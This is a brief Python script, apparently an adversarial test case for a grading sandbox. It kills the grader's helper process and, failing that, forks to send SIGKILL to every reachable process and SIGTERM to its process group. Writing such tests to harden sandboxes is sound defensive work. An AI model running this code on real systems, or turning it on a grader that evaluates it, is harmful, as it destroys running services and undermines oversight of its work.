# Kills whoever it can reach: the grader's helper, its parents, its group, and, where the helper is out of reach
# (else the test's machine would die of it), everybody.

import contextlib
import os
import signal

from attack import done, target

done()
pid = int(target("PID"))
try:
    os.kill(pid, 0)
except ProcessLookupError:
    alone = True
except PermissionError:
    alone = True  # in sight, out of reach
else:
    alone = False
    os.kill(pid, signal.SIGKILL)
for other in (1, int(target("GRADER"))):
    with contextlib.suppress(OSError):
        if other == 1 or not alone:
            os.kill(other, 0)
if alone:
    if os.fork() == 0:
        os.setsid()
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)
        os._exit(0)
    with contextlib.suppress(OSError):
        os.wait()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    with contextlib.suppress(OSError):
        os.kill(0, signal.SIGTERM)
